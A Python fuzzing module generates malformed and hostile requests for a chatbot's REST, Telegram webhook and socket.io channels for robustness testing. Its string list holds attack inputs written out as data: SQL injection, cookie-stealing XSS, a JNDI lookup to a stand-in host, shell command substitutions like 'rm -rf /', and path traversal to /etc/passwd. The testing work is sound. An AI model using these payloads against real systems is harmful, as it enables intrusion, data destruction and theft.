"""Generated bad input for the channels: REST, Telegram webhook, socket.io (events and raw engine.io).

Everything comes from one ``random.Random(seed)``, so a run is reproducible.
Each HTTP payload is an ``HttpPayload``; each socket.io event an ``EmitPayload``.
Kinds are named so a failure report says which class of input did it.
"""
from __future__ import annotations

import json
import random
import string
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple

REST_PATH = "/webhooks/rest/webhook"
TELEGRAM_PATH = "/webhooks/telegram/webhook"
TELEGRAM_SECRET_HEADER = "X-Telegram-Bot-Api-Secret-Token"
JSON = {"Content-Type": "application/json"}

NASTY_STRINGS = [
    "", " ", "\n\n\t  ", "\x00", "\x00\x01\x02\x1b[31mred\x1b[0m\x7f\x9b", "\u202eevil\u202c",
    "\u200b\u200c\u200d\ufeff\u2060", "💩" * 64, "Ω≈ç√∫˜µ≤≥÷", "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐 𝖇𝖗𝖔𝖜𝖓 𝖋𝖔𝖝",
    "ثم نفس سقطت وبالتحديد", "田中さんにあげて下さい", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǵ̟o̶͍̞͝",
    "' OR '1'='1'; DROP TABLE events; --", "\"; DROP TABLE tickets; --", "1; SELECT pg_sleep(10); --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "{% for x in range(9**9) %}{% endfor %}", "%s%s%s%n%x%p",
    "../../../../etc/passwd", "$(reboot)", "`rm -rf /`", "\r\n\r\nHTTP/1.1 200 OK\r\nX: y\r\n",
    "/restart", "/session_start", "/action_listen", "/nlu_fallback", "/greet{", "/",
    "//", "/ affirm", "/intent_that_does_not_exist", '/inform{"platform": [1, 2]}',
    '/inform{"platform": {"$gt": ""}}', '/ticket_change{"ticket_field": "__proto__"}',
    '/contact_support{"email": "a@b"}', '/inform{"x": ' + "[" * 300 + "]" * 300 + "}",
    '/affirm{"requested_slot": "ticket_contact", "ticket_contact": "x"}',
    "my password is Hunter2!xyz", "NaN", "Infinity", "-0", "1e309", "null", "true",
    "A" * 5000, "word " * 2000, "lh-7kq2mx " * 50, "\ud83d", "\udfff\ud800",
]

JSON_VALUES: List[Any] = [None, True, False, 0, -1, 2 ** 63, 2 ** 70, 1.5, -1e308, "", "x", [], {}, [1, "a"],
                          {"a": 1}, [[[]]], {"": None}]


@dataclass
class HttpPayload:
    channel: str
    kind: str
    method: str
    path: str
    body: Optional[bytes] = None
    headers: Dict[str, str] = field(default_factory=dict)
    #: The Telegram chat (or REST sender) a valid payload talks as, for reporting.
    who: Optional[str] = None


@dataclass
class EmitPayload:
    kind: str
    event: str
    data: Any


class Generator:
    def __init__(self, seed: int, telegram_secret: str) -> None:
        self.rnd = random.Random(seed)
        self.secret = telegram_secret
        self.update_id = 10_000_000
        self.counter = 0

    # ------------------------------------------------------------------ building blocks

    def choice(self, items):
        return items[self.rnd.randrange(len(items))]

    def random_unicode(self, max_len: int = 80) -> str:
        ranges = [(0x00, 0x7F), (0x80, 0x24F), (0x370, 0x3FF), (0x600, 0x6FF), (0x3040, 0x30FF),
                  (0x4E00, 0x4FFF), (0x1F300, 0x1F64F), (0xE000, 0xE0FF), (0xFFF0, 0xFFFF), (0x10000, 0x1005F)]
        out = []
        for _ in range(self.rnd.randint(0, max_len)):
            low, high = self.choice(ranges)
            out.append(chr(self.rnd.randint(low, high)))
        return "".join(out)

    def nasty_text(self) -> str:
        roll = self.rnd.random()
        if roll < 0.55:
            return self.choice(NASTY_STRINGS)
        if roll < 0.85:
            return self.random_unicode()
        if roll < 0.95:
            return self.choice(NASTY_STRINGS) + " " + self.random_unicode(20) + " i cannot log in"
        return self.random_unicode(10) * self.rnd.randint(200, 3000)  # huge

    def random_json_value(self, depth: int = 0) -> Any:
        roll = self.rnd.random()
        if depth > 3 or roll < 0.4:
            return self.choice(JSON_VALUES + [self.nasty_text()])
        if roll < 0.7:
            return [self.random_json_value(depth + 1) for _ in range(self.rnd.randint(0, 4))]
        return {self.random_unicode(8): self.random_json_value(depth + 1) for _ in range(self.rnd.randint(0, 4))}

    def deep(self, depth: int, leaf: Any = "x") -> Any:
        value: Any = leaf
        for level in range(depth):
            value = [value] if level % 2 else {"k": value}
        return value

    def deep_json_text(self, depth: int) -> str:
        """Deep nesting as text (built without recursion, so any depth works)."""
        opens = "".join("[" if level % 2 else '{"k":' for level in range(depth))
        closes = "".join("]" if level % 2 else "}" for level in reversed(range(depth)))
        return opens + '"x"' + closes

    def random_bytes(self, max_len: int = 3000) -> bytes:
        return bytes(self.rnd.getrandbits(8) for _ in range(self.rnd.randint(0, max_len)))

    def invalid_utf8(self) -> bytes:
        return self.choice([b"\xff", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc",
                            b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80"]) * self.rnd.randint(1, 20)

    def mutate(self, data: bytes) -> bytes:
        data = bytearray(data)
        for _ in range(self.rnd.randint(1, 6)):
            if not data:
                break
            position = self.rnd.randrange(len(data))
            operation = self.rnd.random()
            if operation < 0.3:
                del data[position]
            elif operation < 0.6:
                data.insert(position, self.choice(b'{}[]",:\\\x00\xff'))
            elif operation < 0.8:
                data[position] = self.rnd.getrandbits(8)
            else:
                data = data[:position]  # truncated
        return bytes(data)

    def sender(self) -> str:
        self.counter += 1
        return f"fuzz-{self.counter:05d}"

    # ------------------------------------------------------------------ REST

    def rest(self) -> HttpPayload:
        kinds: List[Tuple[float, Callable[[], HttpPayload]]] = [
            (0.14, self.rest_random_bytes), (0.14, self.rest_malformed_json), (0.08, self.rest_not_an_object),
            (0.22, self.rest_wrong_types), (0.12, self.rest_nasty_text), (0.08, self.rest_deep_metadata),
            (0.04, self.rest_big_metadata), (0.03, self.rest_too_large), (0.10, self.rest_wrong_request),
            (0.05, self.rest_invalid_utf8_inside),
        ]
        return self._pick(kinds)()

    def _pick(self, kinds):
        roll, total = self.rnd.random() * sum(w for w, _ in kinds), 0.0
        for weight, make in kinds:
            total += weight
            if roll <= total:
                return make
        return kinds[-1][1]

    def _rest(self, kind: str, body: bytes, headers: Optional[Dict[str, str]] = None, who: Optional[str] = None,
              path: str = REST_PATH, method: str = "POST") -> HttpPayload:
        return HttpPayload("rest", kind, method, path, body, dict(JSON if headers is None else headers), who)

    def rest_random_bytes(self) -> HttpPayload:
        return self._rest("random_bytes", self.random_bytes())

    def rest_malformed_json(self) -> HttpPayload:
        valid = json.dumps({"sender": self.sender(), "message": self.nasty_text()[:200],
                            "metadata": {"user_agent": "Mozilla/5.0"}}).encode()
        return self._rest("malformed_json", self.mutate(valid))

    def rest_not_an_object(self) -> HttpPayload:
        value = self.choice([[], 1, "hello", None, True, [{"sender": "a", "message": "hi"}], 1.5, ""])
        return self._rest("not_an_object", json.dumps(value).encode())

    def rest_wrong_types(self) -> HttpPayload:
        body: Dict[str, Any] = {}
        for key in ("sender", "message", "metadata", "input_channel"):
            roll = self.rnd.random()
            if roll < 0.25:
                continue  # missing
            if roll < 0.5:
                body[key] = self.random_json_value()
            elif key in ("sender", "message"):
                body[key] = self.choice([None, 12, ["x"], {"a": "b"}, True, "", " " * 3, "s" * 300])
            elif key == "metadata":
                body[key] = self.choice([None, "string", [1, 2], 3, {"user_agent": ["x"]}])
            else:
                body[key] = self.choice(["", " ", "x" * 100, 5, None, ["rest"]])
        for _ in range(self.rnd.randint(0, 2)):
            body[self.random_unicode(6)] = self.random_json_value()
        return self._rest("wrong_types", json.dumps(body).encode())

    def rest_nasty_text(self) -> HttpPayload:
        sender = self.sender()
        body: Dict[str, Any] = {"sender": sender, "message": self.nasty_text()}
        if self.rnd.random() < 0.5:
            body["metadata"] = {"user_agent": self.nasty_text()[:2000], "language": self.nasty_text()[:50],
                                "client_time": self.choice([0, -1, 1e308, "x", None, 2 ** 70])}
        ensure_ascii = self.rnd.random() < 0.5  # also lone surrogates as \ud800 escapes
        try:
            data = json.dumps(body, ensure_ascii=ensure_ascii).encode("utf-8")
        except UnicodeEncodeError:
            data = json.dumps(body).encode()
        return self._rest("nasty_text", data, who=sender)

    def rest_deep_metadata(self) -> HttpPayload:
        sender = self.sender()
        depth = self.choice([20, 100, 500, 900, 1000, 1100, 3000, 100_000])
        text = ('{"sender": "%s", "message": "hi", "metadata": %s}' % (sender, self.deep_json_text(depth)))
        return self._rest(f"deep_metadata_{depth}", text.encode(), who=sender)

    def rest_big_metadata(self) -> HttpPayload:
        sender = self.sender()
        if self.rnd.random() < 0.5:
            metadata: Any = {f"k{i}": i for i in range(self.rnd.choice([1000, 20000]))}
        else:
            metadata = {"user_agent": "U" * self.rnd.choice([5000, 200_000]), "blob": "b" * 300_000}
        return self._rest("big_metadata", json.dumps({"sender": sender, "message": "hello",
                                                      "metadata": metadata}).encode(), who=sender)

    def rest_too_large(self) -> HttpPayload:
        return self._rest("too_large", json.dumps({"sender": self.sender(), "message": "x" * 1_200_000}).encode())

    def rest_invalid_utf8_inside(self) -> HttpPayload:
        return self._rest("invalid_utf8", b'{"sender": "' + self.sender().encode() + b'", "message": "hi '
                          + self.invalid_utf8() + b'"}')

    def rest_wrong_request(self) -> HttpPayload:
        roll = self.rnd.random()
        body = json.dumps({"sender": self.sender(), "message": "hi"}).encode()
        if roll < 0.2:
            return self._rest("wrong_method", None, {}, method=self.choice(["GET", "PUT", "DELETE", "PATCH"]))
        if roll < 0.4:
            return self._rest("form_encoded", b"sender=a&message=hi",
                              {"Content-Type": "application/x-www-form-urlencoded"})
        if roll < 0.5:
            return self._rest("no_content_type", body, {})
        if roll < 0.6:
            return self._rest("empty_body", b"")
        if roll < 0.75:
            path = self.choice(["/webhooks/rest/", "/webhooks/rest/webhook/x", "/webhooks/nope/webhook",
                                "/webhooks/rest/webhook?stream=maybe", "/conversations/x/tracker",
                                "/model/parse", "/webhooks/rest/webhook?stream=true&x=%ff",
                                "/webhooks/%2e%2e/%2e%2e/etc/passwd", "/" + "a" * 3000])
            return self._rest("wrong_path", body, path=path)
        if roll < 0.85:
            sender = self.sender()
            return self._rest("stream", json.dumps({"sender": sender, "message": "hi"}).encode(),
                              path=REST_PATH + "?stream=true", who=sender)
        return self._rest("odd_headers", body, {"Content-Type": "application/json; charset=latin-1",
                                                "Content-Encoding": self.choice(["gzip", "br", "identity"])})

    # ------------------------------------------------------------------ Telegram

    def next_update_id(self) -> int:
        self.update_id += 1
        return self.update_id

    def telegram(self) -> HttpPayload:
        kinds = [
            (0.08, self.tg_no_secret), (0.10, self.tg_garbage), (0.10, self.tg_no_update_id),
            (0.18, self.tg_text), (0.16, self.tg_malformed_message), (0.12, self.tg_callback),
            (0.06, self.tg_media), (0.08, self.tg_other_update), (0.06, self.tg_duplicate),
            (0.06, self.tg_deep),
        ]
        return self._pick(kinds)()

    def _tg(self, kind: str, body: bytes, secret: Optional[str] = "", who: Optional[str] = None) -> HttpPayload:
        headers = dict(JSON)
        if secret == "":
            headers[TELEGRAM_SECRET_HEADER] = self.secret
        elif secret is not None:
            headers[TELEGRAM_SECRET_HEADER] = secret
        return HttpPayload("telegram", kind, "POST", TELEGRAM_PATH, body, headers, who)

    def chat_id(self) -> int:
        return self.rnd.randint(10_000, 10_000_000)

    def tg_message(self, chat_id: int, **content: Any) -> Dict[str, Any]:
        return {"message_id": self.rnd.randint(1, 10 ** 6), "date": 1_700_000_000,
                "from": {"id": chat_id, "is_bot": False, "first_name": "F", "language_code": "en"},
                "chat": {"id": chat_id, "type": "private"}, **content}

    def tg_no_secret(self) -> HttpPayload:
        body = json.dumps({"update_id": self.next_update_id(),
                           "message": self.tg_message(self.chat_id(), text="hi")}).encode()
        secret = self.choice([None, "wrong", "", self.secret + "x", "\u00e9t\u00e9"])
        return self._tg("no_secret", body, secret=secret if secret != "" else "bad")

    def tg_garbage(self) -> HttpPayload:
        if self.rnd.random() < 0.5:
            return self._tg("random_bytes", self.random_bytes(2000))
        valid = json.dumps({"update_id": self.next_update_id(),
                            "message": self.tg_message(self.chat_id(), text="hello")}).encode()
        return self._tg("malformed_json", self.mutate(valid))

    def tg_no_update_id(self) -> HttpPayload:
        update: Dict[str, Any] = {"message": self.tg_message(self.chat_id(), text="hi")}
        roll = self.rnd.random()
        if roll < 0.6:
            update["update_id"] = self.choice([None, "12", 1.5, True, [], {}, ""])
        elif roll < 0.8:
            update = self.choice([[], 1, "x", None, [update]])  # type: ignore[assignment]
        return self._tg("no_update_id", json.dumps(update).encode())

    def tg_text(self) -> HttpPayload:
        chat_id = self.chat_id()
        text = self.nasty_text() if self.rnd.random() < 0.7 else self.choice(
            ["/start", "/help", "/restart", "/start@CoinExLoginHelpBot", "/unknown", "/start extra words",
             "i cannot log in", "my 2fa code is always rejected"])
        update = {"update_id": self.next_update_id(), "message": self.tg_message(chat_id, text=text)}
        if self.rnd.random() < 0.3:
            update["message"]["entities"] = self.random_json_value()
        return self._tg("text", json.dumps(update).encode(), who=str(chat_id))

    def tg_malformed_message(self) -> HttpPayload:
        chat_id = self.chat_id()
        message: Any = self.tg_message(chat_id, text="hi")
        roll = self.rnd.random()
        if roll < 0.2:
            message = self.random_json_value()
        elif roll < 0.4:
            message["chat"] = self.choice([None, {}, {"id": "123"}, {"id": True}, {"id": 1.5}, [], "chat",
                                           {"id": 5, "type": ["private"]}, {"id": 5, "type": None}])
        elif roll < 0.55:
            del message["chat"]
        elif roll < 0.7:
            message["text"] = self.random_json_value()
        elif roll < 0.85:
            message["from"] = self.random_json_value()
            message["text"] = self.nasty_text()[:100]
        else:
            message["chat"]["type"] = self.choice(["group", "supergroup", "channel", "secret", "", None, 5])
        key = self.choice(["message", "edited_message"])
        return self._tg("malformed_message", json.dumps({"update_id": self.next_update_id(), key: message}).encode(),
                        who=str(chat_id))

    def tg_callback(self) -> HttpPayload:
        chat_id = self.chat_id()
        query: Any = {"id": str(self.rnd.getrandbits(40)), "from": {"id": chat_id, "is_bot": False, "first_name": "F"},
                      "message": self.tg_message(chat_id, text="Did that help?"), "chat_instance": "1",
                      "data": self.choice(["/still_broken", "/problem_solved", "/affirm", "#" + "0" * 24,
                                           "#" + "".join(self.choice("0123456789abcdef") for _ in range(24)),
                                           "", "#", self.nasty_text()[:64], "/inform{\"platform\": \"web\"}"])}
        roll = self.rnd.random()
        if roll < 0.15:
            query["id"] = self.choice([None, 5, [], ""])
        elif roll < 0.3:
            query["message"] = self.random_json_value()
        elif roll < 0.4:
            del query["message"]
            query["from"] = self.choice([None, {}, {"id": "x"}, {"id": chat_id}])
        elif roll < 0.5:
            query["data"] = self.random_json_value()
        elif roll < 0.6:
            query["message"]["reply_markup"] = self.random_json_value()
        elif roll < 0.65:
            query = self.random_json_value()
        return self._tg("callback", json.dumps({"update_id": self.next_update_id(), "callback_query": query}).encode(),
                        who=str(chat_id))

    def tg_media(self) -> HttpPayload:
        chat_id = self.chat_id()
        content = self.choice([
            {"photo": self.random_json_value()},
            {"photo": [{"file_id": self.nasty_text()[:100] or "f", "width": "x", "height": None,
                        "file_size": -1}] * self.rnd.randint(0, 5)},
            {"document": self.random_json_value()},
            {"document": {"file_id": "BQAC", "file_name": self.nasty_text()[:300], "mime_type": 5,
                          "file_size": 2 ** 70}},
            {"sticker": {"file_id": "x"}}, {"voice": {"file_id": "y", "duration": 3}},
            {"photo": [{"file_id": "AgAC"}], "caption": self.nasty_text()},
            {"location": {"latitude": 1, "longitude": 2}}, {},
        ])
        return self._tg("media", json.dumps({"update_id": self.next_update_id(),
                                             "message": self.tg_message(chat_id, **content)}).encode(),
                        who=str(chat_id))

    def tg_other_update(self) -> HttpPayload:
        key = self.choice(["channel_post", "inline_query", "my_chat_member", "poll", "chosen_inline_result",
                           self.random_unicode(10), "pre_checkout_query"])
        return self._tg("other_update", json.dumps({"update_id": self.next_update_id(),
                                                    key: self.random_json_value()}).encode())

    def tg_duplicate(self) -> HttpPayload:
        update_id = self.rnd.randint(10_000_001, max(10_000_001, self.update_id))
        return self._tg("duplicate", json.dumps({"update_id": update_id,
                                                 "message": self.tg_message(self.chat_id(), text="hi")}).encode())

    def tg_deep(self) -> HttpPayload:
        depth = self.choice([100, 900, 1100, 50_000])
        text = '{"update_id": %d, "message": {"chat": {"id": 5, "type": "private"}, "text": "hi", "x": %s}}' % (
            self.next_update_id(), self.deep_json_text(depth))
        return self._tg(f"deep_{depth}", text.encode())

    # ------------------------------------------------------------------ socket.io

    def emit(self, session_id: str) -> EmitPayload:
        roll = self.rnd.random()
        if roll < 0.12:
            return EmitPayload("session_request", "session_request",
                               self.choice([None, 5, "x", [], {"session_id": self.random_json_value()},
                                            {"session_id": "a" * 100}, {"session_id": "../../x"},
                                            {"session_id": session_id}]))
        if roll < 0.25:
            return EmitPayload("user_uttered_not_object", "user_uttered",
                               self.choice([None, 5, "hello", [], [{"message": "hi"}], b"\xff\x00binary", 1.5]))
        if roll < 0.45:
            data: Dict[str, Any] = {"message": self.random_json_value()}
            if self.rnd.random() < 0.7:
                data["session_id"] = self.choice([session_id, None, 5, "short", "x" * 200, "bad id!", ""])
            return EmitPayload("user_uttered_wrong_types", "user_uttered", data)
        if roll < 0.60:
            return EmitPayload("user_uttered_custom_data", "user_uttered", {
                "message": "hi", "session_id": session_id,
                "customData": self.choice([
                    "not json {", "[]", '"str"', json.dumps({"user_agent": self.nasty_text()[:3000]}),
                    {"user_agent": ["x"], "client_time": "now", "language": 5},
                    {"user_agent": "U" * 100_000}, self.deep(200), self.random_json_value(),
                    {"timezone": self.nasty_text(), "client_time": float("1e308")},
                ])})
        if roll < 0.80:
            return EmitPayload("user_uttered_nasty_text", "user_uttered",
                               {"message": self.nasty_text(), "session_id": session_id})
        if roll < 0.84:
            frame = self.choice(["42[", "4", "9", "42", '42["user_uttered"', "40/admin,", "41", "1", "6",
                                 "2", "3probe", "42[" + '"x",' * 500 + "1]", self.nasty_text()[:300],
                                 '42["user_uttered",' + self.deep_json_text(self.choice([50, 2000])) + "]",
                                 self.random_bytes(300), self.invalid_utf8(), b"\x04" + self.random_bytes(50)])
            return EmitPayload("raw_frame", "", frame)
        if roll < 0.90:
            return EmitPayload("unknown_event", self.choice(["foo", "bot_uttered", "session_confirm", "message",
                                                             "", "x" * 500, "user_uttered "]),
                               self.random_json_value())
        return EmitPayload("binary", "user_uttered", {"message": self.random_bytes(200),
                                                      "session_id": session_id})

    def engineio(self, sid: Optional[str]) -> HttpPayload:
        """Raw engine.io polling requests (what a broken or hostile widget could send)."""
        roll = self.rnd.random()
        base = "/socket.io/?EIO=4&transport=polling"
        if roll < 0.2:
            query = self.choice(["?EIO=3&transport=polling", "?EIO=abc&transport=polling", "?transport=polling",
                                 "?EIO=4&transport=carrier-pigeon", "?EIO=4&transport=websocket",
                                 "?EIO=4&transport=polling&sid=" + "x" * 40, "?EIO=4&transport=polling&j=%ff",
                                 "?EIO=4&transport=polling&b64=1", "?%00=%00", ""])
            return HttpPayload("engineio", "bad_query", self.choice(["GET", "POST", "OPTIONS", "PUT"]),
                               "/socket.io/" + query, b"" if self.rnd.random() < 0.5 else self.random_bytes(200))
        if sid is None:
            return HttpPayload("engineio", "handshake", "GET", base)
        target = f"{base}&sid={sid}"
        bodies = [b"40", b"42", b"42[", b'42["user_uttered"', b'42["user_uttered", {"message": "hi"}]', b"9",
                  b"4", b"", b"6", b"1", b"2probe", b"\x1e\x1e", b"40/nope,", b"42/x," + self.random_bytes(50),
                  self.invalid_utf8(), self.random_bytes(500),
                  b'42["user_uttered",' + json.dumps(self.random_json_value()).encode() + b"]",
                  b'451-["user_uttered",{"_placeholder":true,"num":7}]']
        # (No GET on a live session: a long-poll waits for the ping interval.)
        return HttpPayload("engineio", "post_garbage", "POST", target, self.choice(bodies),
                           {"Content-Type": self.choice(["text/plain;charset=UTF-8", "application/octet-stream"])})


def printable(value: str, limit: int = 60) -> str:
    cleaned = "".join(c if c in string.printable and c not in "\r\n\t\x0b\x0c" else "." for c in value)
    return cleaned[:limit]


def iterate(make: Callable[[], Any], count: int) -> Iterator[Any]:
    for _ in range(count):
        yield make()
